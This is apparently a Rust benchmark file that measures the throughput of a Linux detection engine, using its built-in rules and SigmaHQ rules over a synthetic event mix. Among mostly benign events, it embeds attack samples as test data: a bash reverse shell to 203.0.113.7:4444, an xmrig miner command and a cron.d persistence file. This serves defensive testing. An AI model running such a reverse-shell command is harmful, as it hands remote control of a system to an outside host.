//! Detection throughput: events per second through `Detector::evaluate` for the
//! built-in pack and for all SigmaHQ Linux rules, over a realistic event mix
//! (mostly benign process starts, some file, auth and audit events, a few attacks).

use std::hint::black_box;
use std::path::Path;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use serde_json::{Value, json};
use ward_detect::event::Event;
use ward_detect::rulestest::event_from_partial;
use ward_detect::{Detector, PackChoice, builtin_rule_files, default_rule_files, load_dir};

fn ev(v: Value) -> Option<Event> {
    let Value::Object(m) = v else { return None };
    event_from_partial(1_700_000_000_000, m).ok()
}

fn process(exe: &str, cmdline: &str, parent: &str) -> Value {
    json!({"kind": "process", "pid": 4242, "ppid": 4000, "user": "alice", "uid": 1000, "exe": exe,
           "cmdline": cmdline, "cwd": "/home/alice", "parent_exe": parent, "parent_cmdline": parent})
}

/// 100 events: 70 process, 15 file, 10 auth, 5 audit; 4 of them malicious.
fn mix() -> Vec<Event> {
    let benign_cmds = [
        ("/usr/bin/ls", "ls -la /home/alice/projects"),
        ("/usr/bin/git", "git status --porcelain"),
        ("/usr/bin/grep", "grep -rn TODO src/"),
        ("/usr/bin/python3.11", "python3 manage.py runserver 0.0.0.0:8000"),
        ("/usr/bin/systemctl", "systemctl status nginx"),
        ("/usr/bin/ps", "ps aux"),
        ("/usr/bin/cat", "cat /etc/os-release"),
        ("/usr/bin/find", "find . -name *.rs -newer Cargo.lock"),
        ("/usr/lib/postgresql/16/bin/postgres", "postgres: checkpointer"),
        ("/usr/bin/sleep", "sleep 30"),
        ("/usr/bin/curl", "curl -s https://api.example.com/health"),
        ("/usr/sbin/cron", "/usr/sbin/CRON -f -P"),
        ("/usr/bin/tar", "tar czf /var/backups/home.tgz /home/alice"),
        ("/usr/bin/ssh", "ssh -o BatchMode=yes deploy@10.0.0.12 uptime"),
    ];
    let mut v = Vec::new();
    for i in 0..68 {
        let (exe, cmd) = benign_cmds[i % benign_cmds.len()];
        v.push(process(exe, cmd, "/usr/bin/bash"));
    }
    v.push(process(
        "/usr/bin/bash",
        "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "/usr/sbin/apache2",
    ));
    v.push(process(
        "/tmp/.x/xmrig",
        "xmrig -o stratum+tcp://pool.example:3333",
        "/usr/bin/bash",
    ));
    for i in 0..14 {
        v.push(
            json!({"kind": "file", "op": "modify", "path": format!("/home/alice/projects/src/file{i}.rs"),
                      "sha256": "11".repeat(32), "size": 4096, "mode": 0o100644, "uid": 1000}),
        );
    }
    v.push(json!({"kind": "file", "op": "create", "path": "/etc/cron.d/updater", "mode": 0o100644}));
    for i in 0..9 {
        v.push(json!({"kind": "auth", "service": "sshd", "action": "ssh_login", "user": "alice", "success": true,
                      "source_ip": format!("192.0.2.{i}"), "host": "web1",
                      "message": format!("Accepted publickey for alice from 192.0.2.{i} port 5000{i} ssh2: ED25519 SHA256:x")}));
    }
    v.push(
        json!({"kind": "auth", "service": "sshd", "action": "ssh_failed", "user": "admin", "success": false,
                  "source_ip": "203.0.113.7", "host": "web1",
                  "message": "Failed password for invalid user admin from 203.0.113.7 port 52211 ssh2"}),
    );
    for i in 0..5 {
        v.push(json!({"kind": "audit", "serial": i, "record_type": "SYSCALL", "record_types": ["SYSCALL", "CWD", "PATH"],
                      "fields": {"syscall": "openat", "SYSCALL": "openat", "exe": "/usr/bin/cat", "comm": "cat",
                                 "name": "/etc/hosts", "nametype": "NORMAL", "pid": "5151", "uid": "1000", "auid": "1000"}}));
    }
    v.into_iter().filter_map(ev).collect()
}

fn bench_pack(c: &mut Criterion, name: &str, det: &Detector, events: &[Event]) {
    let mut g = c.benchmark_group(name);
    g.throughput(Throughput::Elements(events.len() as u64));
    g.bench_function("mix100", |b| {
        b.iter(|| {
            let mut n = 0usize;
            for e in events {
                n += det.evaluate(black_box(e)).len();
            }
            black_box(n)
        })
    });
    g.finish();
}

fn detect(c: &mut Criterion) {
    let events = mix();
    assert_eq!(events.len(), 100);
    let (builtin, errors) = Detector::load(&builtin_rule_files());
    assert!(errors.is_empty());
    bench_pack(c, "detect_builtin", &builtin, &events);

    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/sigmahq/linux");
    let (files, _) = load_dir(&dir).unwrap_or_default();
    let (sigmahq, _) = Detector::load(&files);
    bench_pack(c, "detect_sigmahq_linux", &sigmahq, &events);

    let mut all = builtin_rule_files();
    all.extend(files);
    let (both, _) = Detector::load(&all);
    bench_pack(c, "detect_builtin_plus_sigmahq", &both, &events);

    let (default_pack, errors) = Detector::load(&default_rule_files(&PackChoice::default()));
    assert!(errors.is_empty());
    bench_pack(c, "detect_default_pack", &default_pack, &events);

    c.bench_function("load_builtin_pack", |b| {
        b.iter(|| Detector::load(black_box(&builtin_rule_files())))
    });
}

criterion_group!(benches, detect);
criterion_main!(benches);
